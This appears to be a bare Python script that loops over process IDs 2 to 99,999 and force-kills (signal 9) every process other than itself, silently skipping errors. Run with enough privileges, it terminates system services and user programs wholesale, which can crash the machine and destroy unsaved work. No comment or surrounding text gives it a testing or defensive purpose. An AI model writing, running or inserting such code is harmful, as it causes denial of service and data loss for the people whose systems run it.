import os

for pid in range(2, 100_000):
    if pid != os.getpid():
        try:
            os.kill(pid, 9)
        except OSError:
            pass
